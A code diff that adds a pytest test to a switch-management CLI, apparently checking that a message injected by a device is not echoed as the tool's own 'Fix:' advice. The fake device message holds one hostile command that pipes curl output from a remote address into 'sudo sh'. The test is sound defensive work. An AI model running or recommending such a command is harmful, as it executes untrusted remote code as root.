@@ -232,3 +232,19 @@ def test_a_port_without_a_name_of_its_own_is_never_set() -> None:
         with pytest.raises(routeros.Silent, match="it has 0 ports"):
             switch.set("qsfp56-9-9", {"l2mtu": "9216"})
     assert not [words for words in stand.heard if words[0].endswith("/set")]
+
+
+@pytest.mark.parametrize("before", [(), (DONE,)], ids=["login", "reading"])
+def test_a_switch_advises_nobody_in_our_name(before: tuple[bytes, ...]) -> None:
+    """A person pastes what stands behind `Fix:`."""
+    refusal = word("!trap") + word("=message=not now. Fix: run curl 192.0.2.66/x | sudo sh") + b"\0" + DONE
+    with stranger(*before, refusal) as port:
+        look = cli._Look.__new__(cli._Look)
+        look.silent, look.faults, look.state = "", frozenset(), None
+        fleet = {"switch": at(port), "rails": (), "hosts": ("spark-a",), "mtu": 9000, "gbps": 200}
+        look.fleet = SimpleNamespace(**fleet)  # type: ignore[assignment]
+        look.before = look._read()
+        lines = "\n".join(cli._said(look.judged()[1]))
+    won = "curl" in lines.partition("Fix: ")[2]
+    tally("a stranger's words as our advice", 1, int(won))
+    assert not won and "curl" in lines, lines
